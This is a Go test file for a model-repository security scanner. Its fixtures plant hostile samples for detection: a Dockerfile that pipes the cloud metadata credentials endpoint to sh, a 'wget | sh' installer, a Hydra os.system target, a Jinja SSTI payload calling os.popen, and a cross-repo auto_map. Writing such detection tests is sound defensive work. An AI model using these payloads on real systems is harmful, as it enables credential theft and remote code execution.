package repocheck

import (
	"context"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"modelgate/internal/finding"
	"modelgate/internal/report"
	"modelgate/internal/scan"
)

// fakeToken builds a live-looking hub token at run time, so the
// repository holds no token-shaped string.
func fakeToken(seed uint64) string {
	r := rand.New(rand.NewPCG(seed, 1))
	const letters = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
	b := []byte("hf_")
	for range 34 {
		b = append(b, letters[r.IntN(len(letters))])
	}
	return string(b)
}

func writeRepo(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for name, body := range files {
		p := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

func scanDir(t *testing.T, dir string) map[string]*report.File {
	t.Helper()
	s := scan.New(scan.Options{RepoChecks: []scan.RepoCheck{New()}, Jobs: 2})
	out := map[string]*report.File{}
	err := s.Run(context.Background(), []scan.Source{scan.Paths{dir}}, func(f *report.File) {
		rel, _ := filepath.Rel(dir, f.Path)
		out[filepath.ToSlash(rel)] = f
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func find(f *report.File, rule string) *finding.Finding {
	if f == nil {
		return nil
	}
	for i := range f.Findings {
		if f.Findings[i].Rule == rule {
			return &f.Findings[i]
		}
	}
	return nil
}

func TestCustomCode(t *testing.T) {
	dir := writeRepo(t, map[string]string{
		"config.json": `{"model_type": "x", "auto_map": {"AutoConfig": "configuration_x.XConfig", "AutoModel": "modeling_x.XModel",
			"AutoModelForCausalLM": "evil-org/payload--modeling_evil.Evil", "AutoTokenizer": ["tokenization_x.XTok", null]}}`,
		"configuration_x.py": "from transformers import PretrainedConfig\nclass XConfig(PretrainedConfig):\n    pass\n",
		"modeling_x.py":      "import torch\nfrom .helpers import setup\nclass XModel(torch.nn.Module):\n    def forward(self, x):\n        return x\n",
		"helpers.py":         "import subprocess\ndef setup():\n    subprocess.run(['sh', '-c', 'echo pwned'])\n",
		"scripts/train.py":   "import subprocess\nsubprocess.run(['nvidia-smi'])\n",
	})
	res := scanDir(t, dir)
	cfg := res["config.json"]
	if f := find(cfg, finding.RuleAutoMapCrossRepo); f == nil || f.Severity != finding.High || !strings.Contains(f.Message, "evil-org/payload") {
		t.Errorf("cross-repo auto_map: %+v", cfg.Findings)
	}
	if f := find(cfg, finding.RuleAutoMapMissing); f == nil || !strings.Contains(f.Message, "tokenization_x.py") {
		t.Errorf("missing module: %+v", cfg.Findings)
	}
	if f := find(cfg, finding.RuleAutoMap); f == nil || !strings.Contains(f.Message, "modeling_x.py") || !strings.Contains(f.Message, "configuration_x.py") {
		t.Errorf("auto_map: %+v", cfg.Findings)
	}
	// helpers.py is imported by modeling_x.py: it runs at load, so high.
	if f := find(res["helpers.py"], finding.RulePythonExec); f == nil || f.Severity != finding.High || !strings.Contains(f.Message, "trust_remote_code") {
		t.Errorf("helpers.py: %+v", res["helpers.py"].Findings)
	}
	// A script nothing loads is listed one level lower.
	if f := find(res["scripts/train.py"], finding.RulePythonExec); f == nil || f.Severity != finding.Medium {
		t.Errorf("scripts/train.py: %+v", res["scripts/train.py"].Findings)
	}
	for _, p := range []string{"configuration_x.py", "modeling_x.py", "helpers.py", "scripts/train.py"} {
		if find(res[p], finding.RulePythonFile) == nil {
			t.Errorf("%s is not listed", p)
		}
	}
	if f := find(res["modeling_x.py"], finding.RulePythonExec); f != nil {
		t.Errorf("modeling_x.py has no exec: %+v", f)
	}
}

func TestDockerfileAndSecrets(t *testing.T) {
	tok := fakeToken(3)
	dir := writeRepo(t, map[string]string{
		"Dockerfile":       "FROM python:3.11\nRUN curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ | sh\nUSER 1000\n",
		"build/renamed":    "# app image\nFROM alpine\nRUN wget -qO- https://get.example/install.sh | sh\n",
		"demo.ipynb":       `{"cells": [{"cell_type": "code", "source": ["from huggingface_hub import login\n", "login(\"` + tok + `\")\n"]}]}`,
		".env":             "OPENAI_API_KEY=" + tok[3:] + "\n",
		"README.md":        "# A model\n\nUse `huggingface-cli login`.\n",
		"model_config.yml": "model:\n  _target_: os.system\n  _args_: [\"echo pwned\"]\n",
		"docs/hydra.md":    "_target_: os.system\n",
	})
	res := scanDir(t, dir)
	if f := find(res["Dockerfile"], finding.RuleDockerMetadata); f == nil || f.Severity != finding.Critical || f.Offset != 17 {
		t.Errorf("Dockerfile: %+v", res["Dockerfile"].Findings)
	}
	if find(res["Dockerfile"], finding.RuleDockerPipeShell) == nil {
		t.Errorf("Dockerfile pipe: %+v", res["Dockerfile"].Findings)
	}
	if find(res["build/renamed"], finding.RuleDockerPipeShell) == nil || find(res["build/renamed"], finding.RuleDockerRoot) == nil {
		t.Errorf("renamed Dockerfile: %+v", res["build/renamed"].Findings)
	}
	nb := find(res["demo.ipynb"], finding.RuleSecretHubToken)
	if nb == nil || nb.Severity != finding.High {
		t.Fatalf("notebook token: %+v", res["demo.ipynb"].Findings)
	}
	if find(res[".env"], finding.RuleSecretEnvFile) == nil {
		t.Errorf(".env: %+v", res[".env"].Findings)
	}
	if f := find(res["model_config.yml"], finding.RuleHydraDangerous); f == nil || f.Severity != finding.Critical {
		t.Errorf("hydra: %+v", res["model_config.yml"].Findings)
	}
	if find(res["docs/hydra.md"], finding.RuleHydraDangerous) != nil {
		t.Errorf("a Markdown file quoting a config was taken for one")
	}
	if len(res["README.md"].Findings) > 1 { // the unknown-format note only
		t.Errorf("README: %+v", res["README.md"].Findings)
	}
	for path, f := range res {
		for _, x := range f.Findings {
			if strings.Contains(x.Evidence+x.Message, tok[3:]) {
				t.Errorf("%s: %s leaks the token: %q %q", path, x.Rule, x.Message, x.Evidence)
			}
		}
	}
}

func TestNemoArchive(t *testing.T) {
	corpus := filepath.Join("..", "..", "testdata", "corpus", "benign", "nemo", "tiny.nemo")
	b, err := os.ReadFile(corpus)
	if err != nil {
		t.Fatal(err)
	}
	dir := writeRepo(t, map[string]string{"tiny.nemo": string(b)})
	if res := scanDir(t, dir); find(res["tiny.nemo"], finding.RuleHydraUnlisted) != nil || find(res["tiny.nemo"], finding.RuleHydraDangerous) != nil {
		t.Errorf("benign .nemo flagged: %+v", res["tiny.nemo"].Findings)
	}
}

func TestCleanRepo(t *testing.T) {
	dir := writeRepo(t, map[string]string{
		"config.json":             `{"architectures": ["BertModel"], "model_type": "bert", "hidden_size": 32}`,
		"tokenizer_config.json":   `{"model_max_length": 512, "tokenizer_class": "BertTokenizer"}`,
		"special_tokens_map.json": `{"unk_token": "[UNK]"}`,
		"vocab.txt":               "[PAD]\n[UNK]\nhello\n",
		"README.md":               "---\nlicense: mit\n---\n# tiny\n",
		".gitattributes":          "*.safetensors filter=lfs diff=lfs merge=lfs -text\n",
	})
	for path, f := range scanDir(t, dir) {
		for _, x := range f.Findings {
			if x.Severity > finding.Info {
				t.Errorf("%s: %s %s", path, x.Rule, x.Message)
			}
		}
	}
}

// TestTemplateFiles: chat templates saved as .jinja files (as newer
// transformers write them) get the same check as templates in configs.
func TestTemplateFiles(t *testing.T) {
	dir := writeRepo(t, map[string]string{
		"chat_template.jinja": "{% for m in messages %}<|im_start|>{{ m['role'] }}\n{{ m['content'] }}<|im_end|>\n{% endfor %}" +
			"{% if add_generation_prompt %}<|im_start|>assistant\n{% endif %}",
		"additional_chat_templates/tool_use.jinja": "{{ cycler.__init__.__globals__.os.popen('echo pwned').read() }}",
	})
	got := scanDir(t, dir)
	if f := got["chat_template.jinja"]; f == nil || len(f.Findings) > 0 && f.Findings[0].Severity > finding.Info {
		t.Errorf("benign template: %+v", f)
	}
	evil := got["additional_chat_templates/tool_use.jinja"]
	if find(evil, finding.RuleJinjaDunder) == nil || find(evil, finding.RuleJinjaGadgetGlobal) == nil {
		t.Errorf("SSTI in a .jinja file not reported: %+v", evil)
	}
}
